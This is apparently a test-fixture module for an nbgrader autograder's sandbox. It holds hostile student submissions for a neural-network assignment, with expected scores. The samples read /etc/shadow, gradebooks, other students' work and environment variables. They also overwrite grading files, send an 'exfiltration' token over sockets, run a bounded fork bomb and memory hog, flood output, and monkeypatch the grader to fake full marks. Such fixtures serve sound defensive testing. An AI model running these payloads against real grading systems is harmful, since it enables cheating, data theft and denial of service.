"""Hostile TP 9 submissions, as data: each is {cell grade_id: source} over the reference solution.

The attacks are what a student could write in any cell of a plain nbgrader course:
read the instructor's files and the other students', write anywhere, reach the
network, exhaust memory and processes, flood the output, patch the grader, hide
autograd. `{course}`, `{port}` and `{token}` are filled in by the test.
"""

SPY_SIGMA = '''
def sigma(x):
    return torch.tanh(x)

import glob, os
COURSE = "{course}"
for pattern in [COURSE + "/source/**/*", COURSE + "/submitted/**/*", COURSE + "/autograded/**/*",
                COURSE + "/gradebook.db", COURSE + "/nbgrader_config.py", "/work/**/reference.py",
                "/root/**/*.ipynb", "/home/**/*", "/tmp/**/*.ipynb", "/etc/shadow"]:
    for path in glob.glob(pattern, recursive=True)[:40]:
        try:
            print(path, open(path, errors="replace").read()[:3000])
        except Exception as error:
            print("refusé", path, type(error).__name__)
import autograder
package = os.path.dirname(autograder.__file__)
print(sorted(os.listdir(package)))
for name in ("tp09/reference.py", "tp09/checks.py", "judge.py", "nbgrader_ext.py"):
    try:
        print(open(os.path.join(package, name)).read())
    except Exception as error:
        print("refusé", name, type(error).__name__)
print(dict(os.environ))
'''

SPY_DLOSS = '''
def dloss(v, t):
    return 2 * (v - t)

print(In)
print(_ih)
print(Out)
'''

VANDAL_LOSS = '''
def loss(v, t):
    return ((t - v) ** 2).sum()

import os
COURSE = "{course}"
for path in [COURSE + "/gradebook.db", COURSE + "/source/tp09/tp09_mlp_sans_autograd.ipynb",
             COURSE + "/pwned-{token}.txt", COURSE + "/submitted/alice/tp09/tp09_mlp_sans_autograd.ipynb",
             COURSE + "/autograded/alice/tp09/tp09_mlp_sans_autograd.ipynb", COURSE + "/nbgrader_config.py",
             "/tmp/pwned-{token}.txt", "/root/pwned-{token}.txt", "/work/pwned-{token}.txt", "pwned-{token}.txt"]:
    try:
        with open(path, "w") as f:
            f.write("SQLite format 3 — pwned")
        print("écrit", path)
    except Exception as error:
        print("refusé", path, type(error).__name__)
'''

NETWORK_DSIGMA = '''
def dsigma(x):
    return 1 - torch.tanh(x) ** 2

import socket
for address in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 80)]:
    try:
        with socket.create_connection(address, timeout=3) as connection:
            connection.sendall(b"exfiltration {token}")
        print("connecté", address)
    except Exception as error:
        print("refusé", address, type(error).__name__)
'''

HOG_FORWARD_STEP = '''
def forward_step(xIn, w, b):
    s = xIn @ w.T + b
    return s, sigma(s)

try:
    hog = bytearray(8 * 2**30)
    print("8 Gio alloués")
except MemoryError:
    print("MemoryError")

import os, time
children = 0
try:
    for _ in range(5000):  # a fork bomb, bounded so that a failed sandbox does not take the machine down
        pid = os.fork()
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refusé après", children, "processus :", error)
'''

FLOOD_FORWARD_PASS = '''
def forward_pass(w1, b1, w2, b2, x):
    s1, x1 = forward_step(x, w1, b1)
    s2, x2 = forward_step(x1, w2, b2)
    return s1, x1, s2, x2

for i in range(10 ** 8):
    print("ligne", i)
'''

PATCHER_SIGMA = '''
import contextlib, sys, types
import numpy
from IPython.display import display

def full_marks(*args, **kwargs):
    print("✅ tout est correct : 1 / 1 point(s)")
    return 1.0

for name in ("autograder", "autograder.probe", "autograder.tp09", "autograder.tp09.checks"):
    fake = types.ModuleType(name)
    fake.run = fake.grade = fake.check = full_marks
    fake.probe = fake.tp09 = fake.checks = fake
    sys.modules[name] = fake
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
torch.inference_mode = lambda *a, **k: contextlib.nullcontext()
display({"application/vnd.autograder.probe+json": {"nonce": "0" * 32, "defined": True, "calls": []}}, raw=True)

def sigma(x):
    raise NotImplementedError()
'''

AUTOGRAD = {
    "dsigma": '''
def dsigma(x):
    y = x.detach().clone()
    getattr(y, "requires_" + "grad_")()
    engine = getattr(torch, "auto" + "grad")
    return getattr(engine, "gr" + "ad")(getattr(torch, "ta" + "nh")(y).sum(), y)[0]
''',
    "dloss": '''
def dloss(v, t):
    w = v.detach().clone()
    setattr(w, "requires_grad", True)
    getattr((t - w).pow(2).sum(), "back" + "ward")()
    return w.grad
''',
    "backward_step": '''
def backward_step(xIn, w, s, dl_xOut):
    leaves = [getattr(a.detach().clone(), "requires_grad_")() for a in (xIn, w)]
    b = torch.zeros(w.shape[0], dtype=w.dtype, requires_grad=True)
    out = torch.tanh(leaves[0] @ leaves[1].T + b + (s - xIn @ w.T).detach())
    g = getattr(torch, "autograd").grad(out, [leaves[1], b, leaves[0]], dl_xOut)
    return g[0], g[1], g[2]
''',
}

HONEST = {
    "alice": {"sigma": "def sigma(x):\n    # canari-de-alice-{token}\n    return torch.tanh(x)"},
    "mistakes": {
        "dsigma": "def dsigma(x):\n    return 1 - x ** 2",
        "backward_step": "def backward_step(xIn, w, s, dl_xOut):\n    dl_s = dsigma(s) * dl_xOut\n"
                         "    return xIn.T @ dl_s, dl_s.sum(0), dl_s @ w",
    },
}

HOSTILE = {
    "spy": {"sigma": SPY_SIGMA, "dloss": SPY_DLOSS},
    "vandal": {"loss": VANDAL_LOSS},
    "network": {"dsigma": NETWORK_DSIGMA},
    "hog": {"forward_step": HOG_FORWARD_STEP},
    "flood": {"forward_pass": FLOOD_FORWARD_PASS},
    "patcher": {"sigma": PATCHER_SIGMA, "dsigma": "def dsigma(x):\n    raise NotImplementedError()"},
    "autograd": AUTOGRAD,
}

FULL = {"test_sigma": 1, "test_dsigma": 1, "test_loss": 1, "test_dloss": 1, "test_forward_step": 2,
        "test_forward_pass": 1, "test_backward_step": 3, "test_backward_pass": 3, "test_training": 3}

EXPECTED = {
    "alice": FULL,
    "mistakes": {**FULL, "test_dsigma": 0, "test_backward_step": 2, "test_training": 0},
    "spy": FULL,
    "vandal": FULL,
    "network": FULL,
    # its own fork bomb holds every process its uid may have: the cells that then need a thread fail
    "hog": {**FULL, "test_forward_pass": 0, "test_training": 0},
    "flood": FULL,
    "patcher": {k: 0 for k in FULL},  # every hidden check reads the patched modules: nothing reported, nothing given
    "autograd": {**FULL, "test_dsigma": 0, "test_dloss": 0, "test_backward_step": 0},
}


def class_answers(course: str, port: int, token: str) -> dict[str, dict[str, str]]:
    fill = {"course": course, "port": port, "token": token}
    return {student: {cell: source.replace("{course}", fill["course"]).replace("{port}", str(fill["port"]))
                      .replace("{token}", fill["token"]) for cell, source in answers.items()}
            for student, answers in {**HONEST, **HOSTILE}.items()}
